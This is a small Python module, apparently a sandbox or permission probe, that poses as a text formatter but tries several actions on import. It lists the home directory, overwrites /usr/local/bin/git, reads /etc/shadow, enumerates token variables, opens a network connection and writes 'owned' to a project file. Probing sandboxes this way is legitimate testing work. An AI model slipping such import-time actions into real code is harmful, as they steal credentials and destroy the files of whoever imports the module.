"""Formats text, and tries other things when it is imported."""

import os
import pathlib
import socket


def attempt(what, action):
    try:
        print(f"{what}: {action()}")
    except OSError as error:
        print(f"{what}: refused ({error.strerror or error})")


attempt("the files at home", lambda: sorted(str(path) for path in pathlib.Path.home().iterdir()))
attempt("a program in your PATH", lambda: pathlib.Path("/usr/local/bin/git").write_text("#!/bin/sh\n"))
attempt("the passwords", lambda: pathlib.Path("/etc/shadow").read_text())
attempt("secret variables", lambda: sorted(name for name in os.environ if "TOKEN" in name))
attempt("the network", lambda: socket.create_connection(("192.0.2.1", 80), 5))
attempt("the first process", lambda: pathlib.Path("/proc/1/comm").read_text()[:10])
attempt("the project", lambda: pathlib.Path("notes.txt").write_text("owned"))


def shout(text):
    return text.upper()
